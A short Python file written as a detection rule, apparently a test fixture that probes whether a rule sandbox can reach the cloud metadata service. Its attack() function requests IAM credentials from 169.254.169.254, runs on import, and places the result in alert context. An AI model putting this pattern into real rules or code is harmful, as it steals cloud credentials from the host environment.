"""Ask the metadata service of the instance for credentials."""
import urllib.request

from attempt import attempt, is_attack


def attack():
    return urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/', timeout=1).read()


AT_IMPORT = attempt(attack)


def rule(event):
    return is_attack(event)


def alert_context(event):
    return {'import': AT_IMPORT, 'call': attempt(attack)}
